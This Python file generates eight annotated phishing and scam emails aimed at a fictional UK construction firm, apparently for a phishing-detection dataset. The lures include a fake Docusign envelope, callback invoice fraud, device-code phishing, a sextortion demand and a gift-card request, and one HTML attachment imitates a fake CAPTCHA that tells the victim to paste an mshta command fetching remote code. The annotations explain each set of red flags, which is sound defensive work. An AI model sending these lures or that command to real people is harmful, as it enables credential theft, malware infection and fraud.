"""Attack messages, English (8)."""

from codes import btc_p2wpkh
from company import S
from core import (Msg, alt, plain, mixed, att_pdf, att_html, html_of)
from mime import h
from systems import SES, Gmail, SharePointNotify, Mailgun, ExchangeOnline, Exim, Bot


def a09():
    url = "https://northgate-final-account.pages.dev/?e=b2xpdmVyLmJlbm5ldHRAZXhhbXBsZS5jb20="
    text = """Jamie Walsh sent you a document to review and sign.

[[REVIEW DOCUMENT|%s]]

Jamie Walsh
j.walsh@northgate-dev.co.uk

Hi Oliver,
Please review and sign the retention release and final account statement for Riverside Phase 1 so that accounts can process the payment before the year-end close.
Kind regards, Jamie

Powered by Docusign

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

This message was sent to you by Jamie Walsh who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.""" % url
    top = ('<div style="background:#1e1e1e;color:#fff;padding:18px 24px;font-size:22px;font-weight:bold;">Docusign</div>\n'
           '<div style="background:#4c00ff;color:#fff;padding:28px;text-align:center;font-size:16px;">'
           'Northgate Developments Ltd<br><b>Retention Release &amp; Final Account - Riverside Phase 1.pdf</b></div>\n')
    return Msg("docusign-fake-final-account", "2026-11-18 14:36:52", SES(),
               ("Jamie Walsh via Docusign", "dse@eu-mail.docusign-notify.net"), [S("bennett")],
               "Complete with Docusign: Retention Release & Final Account - Riverside Phase 1.pdf",
               alt(text, "UTF-8", "quoted-printable", hstyle="generic", pstyle="bare", lang="en", top=top),
               what="A 'Docusign' envelope from the customer's project manager asking to sign a final-account statement.",
               why="Fake Docusign notification: sent through Amazon SES from the look-alike docusign-notify.net (real envelopes come from eumail.docusign.net and link to docusign.net), "
                   "'Review document' points to a pages.dev page with the recipient's address base64-encoded (credential harvesting), no Docusign security/access code. "
                   "Contrast business/09 (genuine envelope from the same customer).",
               technique="brand impersonation: Docusign; abused hosting (Cloudflare Pages); bulk ESP (Amazon SES)")


def a10():
    text = """Dear Customer,

Thank you for your continued business. Your Autodesk AEC Collection subscription (12 named-user seats, annual term) has been renewed automatically and the amount shown on the attached invoice will be collected by direct debit within 24 hours.

If you did not authorise this renewal or wish to change the number of seats, please contact our cancellation desk before the payment is processed:

+44 20 3808 4417 (Mon-Sat, 8am-8pm)

Please have your invoice number ready when you call.

Kind regards,
Renewals Team
LicensePoint UK"""
    pdf = att_pdf("INV-UK-440918.pdf", [
        ("h", "LicensePoint UK  -  Tax Invoice"), ("s", "Software licensing & renewals | Unit 4, Brindley Court, Milton Keynes MK14 6AS"), "",
        "Invoice no.: INV-UK-440918            Date: 14/10/2026", "Customer: Example Group UK Ltd, 3 Hardman Street, Manchester M3 3HF", "",
        ("b", "Description                                              Qty        Amount"),
        "Autodesk AEC Collection - annual subscription (auto-renewal)     12   GBP 22,140.00",
        "Premium support plan                                             1    GBP    840.00",
        "Subtotal                                                              GBP 22,980.00",
        "VAT 20%                                                               GBP  4,596.00",
        ("b", "Total due                                                             GBP 27,576.00"), "",
        "Payment method: Direct Debit (collection within 24 hours)", "",
        ("b", "Did not order this renewal? Call our cancellation desk: +44 20 3808 4417"),
        ("s", "Refunds can only be processed by telephone before collection. Reference INV-UK-440918 required."),
    ], title="Invoice INV-UK-440918", producer="Microsoft: Print To PDF", created="20261014113201+01'00'")
    return Msg("callback-toad-autodesk-renewal", "2026-10-14 13:09:27", Gmail(),
               ("LicensePoint Renewals", "licensepoint.renewals@gmail.com"), [S("shah")],
               "Invoice INV-UK-440918 - Autodesk AEC Collection renewal processed",
               mixed(alt(text, "UTF-8", "quoted-printable", hstyle="gmail", lang="en"), pdf),
               what="'LicensePoint UK' says 12 Autodesk seats were auto-renewed for GBP 27,576 and gives a phone number to cancel.",
               why="Callback phishing (TOAD): no link or malware, only a phone number; unknown reseller on a Gmail address, invoice for a renewal nobody ordered, 24-hour debit threat; "
                   "the call leads to remote-access software or 'refund' fraud.",
               technique="callback phishing (TOAD); PDF lure; free mailer (Gmail)")


def a11():
    share = "https://hartleyreed-my.sharepoint.com/:o:/g/personal/m_hartley_hartleyreed_co_uk/EhK3sPq0bWJNn8yQ2c7vTLgB1dF8xZqY9wS3kR6mA4uJ2Q?e=Xk2Pq9"
    text = """Mark Hartley shared a file with you

Please find attached remittance advice for the payment sent today. Kindly review and confirm receipt.

Remittance Advice - Example Group UK - Nov 2026

This link will work for anyone.

[[Open|%s]]

Privacy Statement
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052""" % share
    return Msg("sharepoint-onenote-compromised-partner", "2026-11-24 15:48:10",
               SharePointNotify(domain="hartleyreed.co.uk", pod="LO2P123MB6021", region="GBRP123",
                                helo="GBR01-LO2-obe.outbound.protection.outlook.com",
                                rdns="mail-lo2gbr01on2118.outbound.protection.outlook.com", ip="40.107.11.118"),
               ("Mark Hartley", "no-reply@sharepointonline.com"), [S("shah")],
               'Mark Hartley shared "Remittance Advice - Example Group UK - Nov 2026" with you',
               alt(text, "utf-8", "quoted-printable", hstyle="generic", pstyle="bare", lang="en"),
               reply_to=("Mark Hartley", "m.hartley@hartleyreed.co.uk"),
               what="Genuine SharePoint Online sharing notification from the subcontractor's Microsoft 365 tenant: a 'remittance advice' OneNote notebook.",
               why="Abuse of a genuinely compromised partner tenant: the infrastructure is real Microsoft, but Hartley & Reed is a supplier that receives money from Example Group and has no reason to send a remittance; "
                   "the shared item is a OneNote notebook (':o:' link) shared with 'anyone' - the typical container for a 'view document' link to a credential-phishing page; generic text. "
                   "Contrast business/16 (genuine invoice from the same firm).",
               technique="abused genuine service (SharePoint/OneNote) from compromised partner tenant")


def a12():
    url = "https://companieshouse-filing.uk/one-login/verify?company=14412876&ref=CS01-OVD"
    text = """Company number: 14412876
Company name: EXAMPLE GROUP UK LTD

Our records show that the confirmation statement for this company, with a made up date of 2 October 2026, has not been delivered. In addition, identity verification has not yet been completed for the following director(s): OLIVER BENNETT.

Failure to deliver a confirmation statement is a criminal offence. The registrar may also take action to strike the company off the register, and the directors may be prosecuted.

To file the statement and complete director identity verification, sign in with GOV.UK One Login:

[[Sign in and file now|%s]]

You must file by 29 October 2026.

Companies House
Crown Way, Cardiff, CF14 3UZ

This is an automated message. Please do not reply to this email.""" % url
    return Msg("companies-house-overdue-idv", "2026-10-22 10:17:35",
               Mailgun(mgdomain="mg.companieshouse-filing.uk", tag="cs01-overdue"),
               ("Companies House", "no-reply@companieshouse-filing.uk"), [S("bennett")],
               "Action required: confirmation statement overdue - EXAMPLE GROUP UK LTD (14412876)",
               alt(text, "UTF-8", "quoted-printable", hstyle="generic", pstyle="colon", lang="en"),
               what="'Companies House' says the confirmation statement is overdue and director ID verification is missing; link to sign in.",
               why="Regulator impersonation / credential phishing: look-alike companieshouse-filing.uk via Mailgun (real Companies House mail comes through GOV.UK Notify and links to gov.uk), "
                   "threat of prosecution and strike-off, very short deadline, fake 'GOV.UK One Login' page. Contrast business/13 (genuine reminder).",
               technique="credential phishing: regulator (Companies House / GOV.UK One Login); bulk ESP (Mailgun)")


def a13():
    text = """Hi Oliver,

Following yesterday's call, we've set up the Teams session for the level 3 clash review with the M&E consultant at 11:00 today. As your tenant blocks our external guest invites, our IT has issued you a one-time access code instead:

1. Go to [[https://microsoft.com/devicelogin|https://microsoft.com/devicelogin]]
2. Enter the code: **KQ7ZN3HWT**
3. Sign in with your Example Group account - the meeting then opens automatically.

The code expires after 15 minutes, so best do it just before 11:00. Any issues, just reply here.

Cheers,
Jamie

Jamie Walsh
Development Manager
Northgate Developments Ltd
4th Floor, 1 Spinningfields, Manchester M3 3JE"""
    return Msg("device-code-teams-northgate-lookalike", "2026-12-03 10:45:18",
               ExchangeOnline(domain="northgate-dev.com", pod="PAXPR08MB7093", region="eurprd08", lang="en-GB",
                              helo="EUR02-VI1-obe.outbound.protection.outlook.com",
                              rdns="mail-vi1eur02on2097.outbound.protection.outlook.com", ip="40.107.241.97"),
               ("Jamie Walsh", "j.walsh@northgate-dev.com"), [S("bennett")],
               "Level 3 clash review today 11:00 - Teams access code",
               alt(text, "iso-8859-1", "quoted-printable", lang="en"),
               hcs="iso-8859-1", hmode="Q",
               what="The customer's project manager sends a 'one-time Teams access code' to enter at microsoft.com/devicelogin.",
               why="Device-code phishing: look-alike northgate-dev.com (the customer is northgate-dev.co.uk) on an attacker-controlled Microsoft 365 tenant; the link is the real Microsoft device-login page, "
                   "but entering the attacker-generated code signs the victim in on the attacker's device and hands over tokens (MFA bypassed). Teams meetings never work this way. "
                   "Contrast business/15 (genuine mail from the same person).",
               technique="device-code phishing; look-alike domain on attacker Microsoft 365 tenant; Teams lure")


def a14():
    text = """Hi Oliver,

As discussed, please find attached the Stage 4 drawing package for the joinery tender (internal doors, glazed screens, reception desk).

The set opens in our secure viewer - it is a large DWG/PDF package so it can take a moment to load. Let me know if you need anything else before the tender return on the 4th.

Regards,
Tom Bramley
Estimator
Bramley Joinery Ltd
Unit 7, Pendleton Way, Salford M6 5FX
0161 745 2210"""
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Ancoats Mill - Stage 4 drawings - secure viewer</title>
<style>body{font-family:system-ui,Arial,sans-serif;background:#fafafa;color:#222}
.c{max-width:560px;margin:70px auto;background:#fff;border:1px solid #ddd;padding:32px}
.cb{border:1px solid #ccc;padding:14px;display:flex;align-items:center;gap:10px;margin:18px 0}
.sq{width:26px;height:26px;border:2px solid #666;border-radius:3px}
.cmd{font-family:Consolas,monospace;background:#f0f0f0;border:1px dashed #999;padding:10px;font-size:13px;word-break:break-all}
ol li{margin:6px 0}</style></head>
<body><div class="c">
<h2>Ancoats Mill refurbishment &ndash; Stage 4 drawings (142 files)</h2>
<p>Checking your browser before accessing the document viewer. This process is automatic.</p>
<div class="cb"><div class="sq"></div><span>Verify you are human</span><span style="margin-left:auto;font-size:11px;color:#888">Cloudflare</span></div>
<p><b>Verification steps</b></p>
<ol>
<li>Press <b>Windows + R</b></li>
<li>Copy the verification string below and paste it with <b>CTRL + V</b></li>
<li>Press <b>Enter</b> to complete verification</li>
</ol>
<div class="cmd">mshta https://cdn-drawings-verify.com/v/7481 # I am not a robot - reCAPTCHA Verification ID: 7481</div>
<p style="font-size:12px;color:#777">Ray ID: 8f3c21ab9d7e4471 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
"""
    return Msg("clickfix-html-stage4-drawings", "2026-11-26 16:20:41",
               Exim(host="cp3.northwest-webhosting.co.uk", host_ip="185.151.30.147", via="smtp",
                    client_ip="5.181.86.12", zone="UK"),
               ("Tom Bramley", "tenders@bramleyjoinery.co.uk"), [S("bennett")],
               "RE: Tender - Ancoats Mill refurbishment - Stage 4 drawings",
               mixed(alt(text, "us-ascii", "7bit", lang="en"), att_html("Ancoats_Mill_Stage4_Drawings.html", page)),
               hcs="us-ascii",
               what="A joinery subcontractor sends a 'secure viewer' HTML file for tender drawings.",
               why="ClickFix: the HTML attachment imitates a Cloudflare 'verify you are human' check and instructs the user to open Win+R and paste/run an mshta command that fetches code from an external host; "
                   "fake 'RE:' without any prior thread, sent through a (compromised) small-business mailbox on shared hosting.",
               technique="ClickFix (fake CAPTCHA, Win+R); HTML attachment; compromised small-business mailbox")


def a15():
    addr = btc_p2wpkh("a15-extortion")
    text = """Hello Oliver,

I will get straight to the point. You may have noticed that I sent you this message from your own account. That means I have full access to it.

A few months ago I got access to your devices through a vulnerability in your router firmware. Since then I have been watching your activity, including the websites you visit in the evenings. I also have access to your contacts, your e-mails and your messengers.

I have recorded a video that combines your webcam with your screen. I am sure you would not want your colleagues, clients and family to see it.

I propose a deal: transfer 1350 USD in Bitcoin to my wallet and I will delete everything and disappear from your life.

My BTC address: %s

You have 48 hours from the moment you open this e-mail. I can see when you read it. If you contact anyone or ignore this message, the video will be sent to all your contacts.

Do not reply - this mailbox is not monitored.""" % addr
    return Msg("extortion-bitcoin-spoofed-self", "2026-12-12 03:12:09",
               Bot(helo="DESKTOP-H1V7QF2", ip="186.96.211.47", mailer="Microsoft Outlook 16.0"),
               ("Oliver Bennett", "oliver.bennett@example.com"), [S("bennett")],
               "oliver.bennett - your account has been compromised",
               plain(text, "us-ascii", "7bit"),
               what="'Sextortion' mail sent 'from' the recipient's own address demanding USD 1,350 in Bitcoin.",
               why="Extortion scam: From forged to the victim's own address but delivered directly from a residential IP in Latin America without TLS (not via mail-int01), "
                   "boilerplate threats without any proof, 48-hour deadline, bech32 Bitcoin address.",
               technique="extortion (sextortion, Bitcoin); sender spoofing (own address); direct-to-MX botnet")


def a16():
    text = """Hi Priya,

Are you at your desk? I need a quick favour for a client thank-you before Christmas. I'm stuck in back-to-back meetings on the Northgate site and can't take calls.

Can you pick up some Apple gift cards today? I'll explain and get it reimbursed this afternoon. Let me know asap and I'll send you the details.

Oliver

Sent from my iPhone"""
    return Msg("gift-cards-office-manager-gmail", "2026-12-14 11:41:02", Gmail(),
               ("Oliver Bennett", "oliver.bennett.office@gmail.com"), [S("shah")],
               "Quick favour",
               alt(text, "UTF-8", "7bit", hstyle="gmail", lang="en"),
               what="'Oliver Bennett' (office manager) asks the accountant from a Gmail address to buy Apple gift cards urgently.",
               why="Gift-card scam: manager's name on an unknown Gmail address, cannot take calls, urgency, gift cards for 'a client', reimbursement promise. "
                   "Contrast business/14 (the real manager's announcement about staff vouchers, via the internal relay).",
               technique="gift-card scam (BEC); free mailer (Gmail)")


def messages():
    return [a09(), a10(), a11(), a12(), a13(), a14(), a15(), a16()]
